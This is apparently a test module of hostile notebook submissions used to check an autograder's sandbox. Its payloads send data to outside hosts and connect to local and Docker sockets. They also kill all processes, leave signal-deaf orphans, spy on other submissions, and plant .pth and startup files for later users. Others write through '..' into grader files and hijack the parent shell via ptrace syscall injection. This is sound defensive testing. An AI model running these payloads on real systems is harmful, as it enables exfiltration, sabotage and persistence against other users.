"""Attacks on the machine: its network, its other processes, its files, and whoever is graded next."""

from tests.attacks.attack import PORT, SOCKET, Attack

ATTACKS = (
    Attack(
        "network-out",
        "Sends the data out: over HTTP, over DNS, over plain TCP and UDP",
        q2="""
import socket, urllib.request
for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)),
                              (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
                              (socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700:4700::1111", 53))):
    with socket.socket(family, kind) as out:
        out.settimeout(2)
        try:
            out.connect(address)
            print("sent", out.send(b"rows"))
        except OSError as fault:
            print(fault)
try:
    print(urllib.request.urlopen("http://elsewhere.example/?rows", timeout=2).status)
except OSError as fault:
    print(fault)
""",
    ),
    Attack(
        "network-to-this-machine",
        "Connects to a server of the facilitator's own machine, over the loopback",
        q2=f"""
import socket
reached = False
for host in ("127.0.0.1", "::1", "localhost", "0.0.0.0"):
    try:
        socket.create_connection((host, {PORT}), 2).sendall(b"hostile")
        reached = True
    except OSError as fault:
        print(host, fault)
""",
        done="reached",
    ),
    Attack(
        "sockets-of-this-machine",
        "Connects to sockets of the machine: abstract ones, the display, Docker, the bus, the agent",
        q2=f"""
import glob, socket
reached = False
places = ["\\0{SOCKET}", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"]
for place in places + glob.glob("/tmp/**/*.sock", recursive=True) + glob.glob("/run/user/*/*"):
    with socket.socket(socket.AF_UNIX) as out:
        try:
            out.connect(place)
            out.sendall(b"hostile")
            reached = True
        except OSError as fault:
            print(place, fault)
""",
        done="reached",
    ),
    Attack(
        "everything-killed",
        "Kills everything that it may: kill -9 -1",
        q2="import os, signal\nos.kill(-1, signal.SIGKILL)\nos.killpg(0, signal.SIGKILL)",
    ),
    Attack(
        "orphan-process",
        "Leaves a process behind: two forks, a session of its own, deaf to signals",
        q2="""
import os, sys
if not os.fork():
    os.setsid()
    if not os.fork():
        code = "import signal, time\\nfor n in (1, 2, 15): signal.signal(n, signal.SIG_IGN)\\ntime.sleep(600)"
        os.execv(sys.executable, [sys.executable, "-c", code, "hostile-orphan"])
    os._exit(0)
""",
    ),
    Attack(
        "process-that-waits-for-the-next",
        "Starts a process that waits until the next submission is there, to read it",
        q2="""
import subprocess, sys
code = '''
import glob, time
while True:
    for path in glob.glob("/home/*/*/*.ipynb") + glob.glob("/tmp/*") + glob.glob("../../zoe/*/*.ipynb"):
        open("/tmp/hostile-spied", "a").write(path)
    time.sleep(0.1)
'''
subprocess.Popen([sys.executable, "-c", code, "hostile-spy"], start_new_session=True)
""",
    ),
    Attack(
        "thread-in-the-background",
        "Leaves threads that go on printing and computing after their cell",
        q2="""
import threading, time

def on():
    while True:
        print("still here")
        time.sleep(0.01)

for _ in range(8):
    threading.Thread(target=on).start()
""",
    ),
    Attack(
        "files-left-for-the-next",
        "Leaves modules, settings, startup files and shell profiles for whoever comes next",
        q2="""
import nbformat, os, site
home = os.path.expanduser("~")
hostile = "raise SystemExit('hostile')"
packages = [*site.getsitepackages(), site.getusersitepackages(), os.path.dirname(nbformat.__file__)]
for path in ("/tmp/hostile-left", "/dev/shm/hostile-left", "/var/tmp/hostile-left", f"{home}/hostile-left",
             f"{home}/.pythonrc", f"{home}/.ipython/profile_default/startup/hostile-00.py", "/tmp/pandas.py",
             f"{home}/.config/matplotlib/matplotlibrc", "../pandas.py", "../../../hostile-settings.pth",
             *(f"{package}/hostile-settings.pth" for package in packages)):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write(hostile)
    except OSError:
        pass
""",
    ),
    Attack(
        "paths-that-lead-out",
        "Writes through `..` into the folders of the course: source, release, another submission",
        q2="""
import os
for up in ("..", "../..", "../../..", "../../../.."):
    for place in ("source/week-90-orders", "release/week-90-orders", "submitted/zoe/week-90-orders", "autograded", "."):
        try:
            open(os.path.join(up, place, "hostile-file.txt"), "w").write("x")
        except OSError:
            pass
for name in ("source/week-90-orders/answers.py", "release/week-90-orders/week-90-orders.ipynb", "grader_config.py"):
    try:
        open(os.path.join("../../..", name), "a").write("\\n# hostile")
    except OSError:
        pass
""",
    ),
    Attack(
        "holder-taken-over",
        "Takes over the shell that holds its sandbox, and makes 700 MB of memory in it that belong to no process",
        q2="""
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
names = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base"
class Registers(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in [*names.split(), "ds", "es", "fs", "gs"]]
processes = [int(name) for name in os.listdir("/proc") if name.isdigit()]
holder = next(process for process in processes if open(f"/proc/{process}/comm").read().strip() == "sh")
libc.ptrace(16, holder, None, None)  # PTRACE_ATTACH
os.waitpid(holder, 0x40000000)
old = Registers()
libc.ptrace(12, holder, None, ctypes.byref(old))
def call(number, *arguments):
    now = Registers.from_buffer_copy(old)
    now.rip, now.rax, now.orig_rax = old.rip - 2, number, 2**64 - 1
    for name, value in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), arguments):
        setattr(now, name, value)
    libc.ptrace(13, holder, None, ctypes.byref(now))
    libc.ptrace(9, holder, None, None)
    os.waitpid(holder, 0x40000000)
    done = Registers()
    libc.ptrace(12, holder, None, ctypes.byref(done))
    return ctypes.c_longlong(done.rax).value
name = old.rsp - 4096
libc.ptrace(4, holder, ctypes.c_void_p(name), ctypes.c_void_p(0x78))
file = call(319, name, 0)  # memfd_create
call(285, file, 0, 0, 700_000_000)  # fallocate
time.sleep(0.5)
largest = os.stat(f"/proc/{holder}/fd/{file}").st_blocks * 512
""",
        done="largest > 600_000_000",
    ),
)
